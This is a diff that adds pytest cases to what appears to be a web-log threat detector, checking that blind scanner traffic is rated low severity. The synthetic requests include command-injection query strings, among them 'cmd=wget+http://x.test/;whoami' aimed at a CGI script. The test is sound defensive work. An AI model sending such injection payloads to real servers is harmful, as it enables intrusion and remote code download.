@@ -223,6 +223,28 @@ def _ews(web):
     return every(web.people(3), 15, 9000, "10.0.0.50", "POST", "/EWS/Exchange.asmx", agent="Client/1.0", jitter=300)
 
 
+def _scanner_of_one_page(web):
+    web.people(60)
+    for number in range(6):
+        at = START + timedelta(days=50, seconds=90 * number * number)
+        web.ask(at, f"203.0.113.{number % 2}", "GET", "/cgi-bin/setup.cgi", "cmd=wget+http://x.test/;whoami", agent="-")
+    return web
+
+
+def _scanner_answered_by_all(web):
+    web.people(60)
+    for number in range(2000):
+        at = START + timedelta(days=50, seconds=number)
+        web.ask(at, "203.0.113.6", "GET", f"/s{number % 400}.php", f"c={('whoami', 'id', 'ls')[number % 3]}", agent="-")
+    return web
+
+
+@pytest.mark.parametrize("build", [_scanner_of_one_page, _scanner_answered_by_all], ids=lambda build: build.__name__)
+def test_scanners_of_a_site_that_answers_everything_are_low(web, build):
+    """Commands that were sent to any address and answered like any address: low at most."""
+    assert [finding.summary for finding in build(web).findings() if finding.severity > Severity.LOW] == []
+
+
 @pytest.mark.parametrize(
     "build",
     [
